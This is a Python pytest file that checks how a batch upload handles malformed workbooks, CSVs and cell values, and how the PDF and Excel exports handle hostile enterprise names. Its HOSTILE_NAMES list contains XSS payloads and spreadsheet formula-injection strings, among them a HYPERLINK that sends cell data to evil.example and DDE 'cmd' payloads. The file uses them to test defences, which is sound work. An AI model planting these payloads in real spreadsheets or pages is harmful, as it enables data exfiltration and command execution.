"""Bad and hostile files for the batch upload (the batch package, which the batch page calls), and hostile
names in every export (PDF report, Excel workbook, batch results workbook).

Each case asserts the message the user reads (sheet, cell, column, enterprise, text) and that the other
enterprises of the same file are still assessed with the engine's figures.
"""

from __future__ import annotations

import datetime as dt
import io
import json
from pathlib import Path

import openpyxl
import pytest

import batch
from calculators import assess, validate_profile
from reports import batch_book

REPO = Path(__file__).resolve().parents[2]
AS_OF = dt.date(2026, 11, 27)
KNOWN = "企业、载体、项目、技术平台、转化项目、研发、场景、人才、培训"


def _example(name: str) -> dict:
    return json.loads((REPO / "content" / "examples" / name).read_text(encoding="utf-8"))


STUDIO, PARK = _example("drama_studio.json"), _example("park_operator.json")
BASE = batch_book.profiles_workbook([STUDIO, PARK], "zh")


def _engine_total(profile: dict) -> int:
    model, problems = validate_profile(profile, "zh")
    assert not problems
    return assess(model, "zh").total_ceiling_yuan


def _run(files):
    return batch.run(batch.read_files(files, "zh"), "zh", as_of=AS_OF)


def _book(mutate=None) -> bytes:
    wb = openpyxl.load_workbook(io.BytesIO(BASE))
    if mutate:
        mutate(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _cell(sheet: str, cell: str, value):
    return _book(lambda wb: wb[sheet].__setitem__(cell, value))


def test_the_base_workbook_is_assessed_like_the_engine():
    result = _run([("book.xlsx", BASE)])
    assert result.problems == []
    assert {e.name: e.total_ceiling_yuan for e in result.entries} == {
        STUDIO["enterprise"]["name"]: _engine_total(STUDIO), PARK["enterprise"]["name"]: _engine_total(PARK)}


CELL_CASES = [
    # (id, sheet, cell, value, expected problem text)
    ("negative", "载体", "E2", -5, "载体!E2 [相关企业数（家）] (闵行影视产业园运营有限公司): 不能小于 0"),
    ("nan", "载体", "H2", "NaN", "载体!H2 [上年营业收入总额（元）] (闵行影视产业园运营有限公司): 须为有限的数字（不能是 NaN 或无穷大）"),
    ("infinite", "载体", "H2", "inf", "载体!H2 [上年营业收入总额（元）] (闵行影视产业园运营有限公司): 须为有限的数字（不能是 NaN 或无穷大）"),
    ("absurd", "载体", "H2", 1e30, "载体!H2 [上年营业收入总额（元）] (闵行影视产业园运营有限公司): 不能大于 1,000,000,000,000"),
    ("text", "载体", "H2", "一亿", "载体!H2 [上年营业收入总额（元）] (闵行影视产业园运营有限公司): 须为数字"),
    ("related_above_total", "载体", "E2", 5000,
     "载体!E2 [相关企业数（家）] (闵行影视产业园运营有限公司): 相关企业数（5000）不能大于载体内企业总数（150）"),
    # a formula cell is never evaluated: without a cached value the cell counts as empty
    ("formula", "载体", "H2", "=1+1", "载体!H2 [上年营业收入总额（元）] (闵行影视产业园运营有限公司): 必须填写"),
]


@pytest.mark.parametrize(("sheet", "cell", "value", "expected"), [c[1:] for c in CELL_CASES],
                         ids=[c[0] for c in CELL_CASES])
def test_bad_cell_is_placed_and_the_other_enterprise_still_counts(sheet, cell, value, expected):
    result = _run([("book.xlsx", _cell(sheet, cell, value))])
    assert [str(p) for p in result.problems] == [expected]
    assert [(e.name, e.total_ceiling_yuan) for e in result.entries] == [
        (STUDIO["enterprise"]["name"], _engine_total(STUDIO))]


DATE_CASES = [
    ("impossible", "2026-02-30", "须为有效日期（YYYY-MM-DD）"),
    ("after_assessment", "2026-12-30", "日期 2026-12-30 晚于测算日期 2026-11-27"),
]


@pytest.mark.parametrize(("value", "message"), [c[1:] for c in DATE_CASES], ids=[c[0] for c in DATE_CASES])
def test_bad_date(value, message):
    result = _run([("book.xlsx", _cell("项目", "F2", value))])
    (problem,) = result.problems
    assert (problem.sheet, problem.cell, problem.enterprise, problem.message) == (
        "项目", "F2", STUDIO["enterprise"]["name"], message)
    assert [(e.name, e.total_ceiling_yuan) for e in result.entries] == [
        (PARK["enterprise"]["name"], _engine_total(PARK))]


def test_date_before_the_policy_is_valid_but_not_new():
    result = _run([("book.xlsx", _cell("项目", "F2", "2025-12-30"))])
    assert result.problems == []
    studio = dict(STUDIO, projects=[dict(STUDIO["projects"][0], municipal_fund_date="2025-12-30"),
                                    *STUDIO["projects"][1:]])
    by_name = {e.name: e for e in result.entries}
    assert by_name[STUDIO["enterprise"]["name"]].total_ceiling_yuan == _engine_total(studio)
    row = [i for i in by_name[STUDIO["enterprise"]["name"]].items if i.item == "2.1"][0]
    assert row.status == "ineligible" and row.unmet[0].code == "not_new"


@pytest.mark.parametrize(("value", "message"), [
    (None, "企业!A3 [企业名称]: 必须填写"),
    ("   ", "企业!A3 [企业名称]: 必须填写"),
    (STUDIO["enterprise"]["name"], f"企业!A3 [企业名称] ({STUDIO['enterprise']['name']}): 企业（{STUDIO['enterprise']['name']}）"
                                   "在“企业”表中重复出现（第 2 行已有）"),
], ids=["empty_name", "blank_name", "duplicate_name"])
def test_bad_enterprise_name(value, message):
    result = _run([("book.xlsx", _cell("企业", "A3", value))])
    shown = [str(p) for p in result.problems]
    assert shown[0] == message
    # the park's carrier row now points at no enterprise: said so, on its own cell
    assert shown[1:] == [f"载体!A2 [企业名称] ({PARK['enterprise']['name']}): “企业”表中没有这家企业（{PARK['enterprise']['name']}）"]
    assert [e.name for e in result.entries] == [STUDIO["enterprise"]["name"]]


def test_extra_column_is_named_and_ignored():
    result = _run([("book.xlsx", _cell("企业", "H1", "备注"))])
    assert [str(p) for p in result.problems] == ["企业!H1 [备注]: 不是可识别的列，已忽略"]
    assert len(result.entries) == 2


def test_missing_name_column_names_every_row():
    result = _run([("book.xlsx", _book(lambda wb: wb["企业"].delete_cols(1)))])
    shown = [str(p) for p in result.problems]
    assert shown[:2] == ["企业:2 [企业名称]: 必须填写", "企业:3 [企业名称]: 必须填写"], shown
    assert result.entries == []


def test_renamed_sheet():
    def rename(wb):
        wb["企业"].title = "Sheet1"

    result = _run([("book.xlsx", _book(rename))])
    assert [str(p) for p in result.problems] == [
        f"book.xlsx · Sheet1: 不是可识别的工作表（可用：{KNOWN}），已忽略", "企业: 缺少“企业”工作表（或 企业.csv）"]
    assert result.entries == []


NOT_A_WORKBOOK = ("不是可读取的 Excel 工作簿（.xlsx）：文件为空、已损坏或被截断，或是其他类型的文件。"
                  "请用模板另存为 .xlsx 后重新上传")

FILE_CASES = [
    ("empty_xlsx", "book.xlsx", b"", "book.xlsx: " + NOT_A_WORKBOOK),
    ("truncated_xlsx", "book.xlsx", BASE[: len(BASE) // 2], "book.xlsx: " + NOT_A_WORKBOOK),
    ("pdf_named_xlsx", "book.xlsx", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", "book.xlsx: " + NOT_A_WORKBOOK),
    ("wrong_type", "report.pdf", b"%PDF-1.4", f"report.pdf: 不是可识别的工作表（可用：{KNOWN}），已忽略"),
    ("utf16_csv", "企业.csv", "企业名称\n甲公司\n".encode("utf-16"), "企业.csv: 无法识别文件编码（请用 UTF-8 或 GBK 保存 CSV）"),
    ("binary_csv", "企业.csv", b"\x82\xa0\x82\xa2\xff\xfe\x81", "企业.csv: 无法识别文件编码（请用 UTF-8 或 GBK 保存 CSV）"),
]


@pytest.mark.parametrize(("name", "data", "expected"), [c[1:] for c in FILE_CASES], ids=[c[0] for c in FILE_CASES])
def test_bad_file_is_one_message(name, data, expected):
    result = _run([(name, data)])
    assert str(result.problems[0]) == expected
    assert result.entries == []


def test_a_bad_file_beside_a_good_one_keeps_the_good_one():
    result = _run([("book.xlsx", BASE), ("notes.pdf", b"%PDF-1.4")])
    assert [str(p) for p in result.problems] == [f"notes.pdf: 不是可识别的工作表（可用：{KNOWN}），已忽略"]
    assert len(result.entries) == 2


def test_gbk_csv_is_read():
    csv = "企业名称,在闵行区注册或经营（是/否）\n甲公司,是\n".encode("gbk")
    result = _run([("企业.csv", csv)])
    assert result.problems == []
    assert [e.name for e in result.entries] == ["甲公司"]


def test_empty_enterprise_csv():
    result = _run([("企业.csv", b"")])
    assert result.entries == []
    assert all("Traceback" not in str(p) for p in result.problems)


HOSTILE_NAMES = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">',
                 '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_name_through_the_batch_and_its_results_workbook(name):
    def rename(wb):
        for ws in wb.worksheets[1:]:
            for row in ws.iter_rows(min_row=2):
                if row[0].value == STUDIO["enterprise"]["name"]:
                    row[0].value = name
                    row[0].data_type = "s"  # typed as text, as a user would

    result = _run([("book.xlsx", _book(rename))])
    assert result.problems == []
    assert {e.name for e in result.entries} == {name, PARK["enterprise"]["name"]}
    data = batch_book.results_xlsx(result, "zh")
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    shown = [c.value for c in cells if name in c.value]
    assert shown, "the name is in the results workbook"
    for c in cells:
        assert c.data_type != "f", f"{c.coordinate} holds a formula: {c.value!r}"
        assert not c.value.startswith(("=", "+", "@")), f"{c.coordinate} starts like a formula: {c.value!r}"
    if name.startswith(("=", "+", "@")):  # neutralised: a quote in front, the rest exactly as typed
        assert set(shown) == {"'" + name}
    else:
        assert name in shown


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_name_in_the_pdf_and_excel_reports(name):
    from pypdf import PdfReader

    from reports import build_pdf, build_xlsx

    profile = dict(STUDIO, enterprise=dict(STUDIO["enterprise"], name=name))
    profile["projects"] = [dict(STUDIO["projects"][0], name=name + "作品")] + STUDIO["projects"][1:]
    model, problems = validate_profile(profile, "zh")
    assert not problems
    a = assess(model, "zh")
    pdf = build_pdf(a, model, "zh")
    text = "".join(p.extract_text() or "" for p in PdfReader(io.BytesIO(pdf)).pages)
    compact = text.replace("\n", "").replace(" ", "")
    assert name.replace(" ", "") in compact  # printed literally, markup and all
    assert b"/JavaScript" not in pdf and b"/JS " not in pdf and b"/Launch" not in pdf and b"/URI" not in pdf

    wb = openpyxl.load_workbook(io.BytesIO(build_xlsx(a, model, "zh")))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(name in c.value for c in cells)
    for c in cells:
        assert c.data_type != "f", f"{c.coordinate} holds a formula: {c.value!r}"
        assert not c.value.startswith(("=", "+", "@")), f"{c.coordinate} starts like a formula: {c.value!r}"
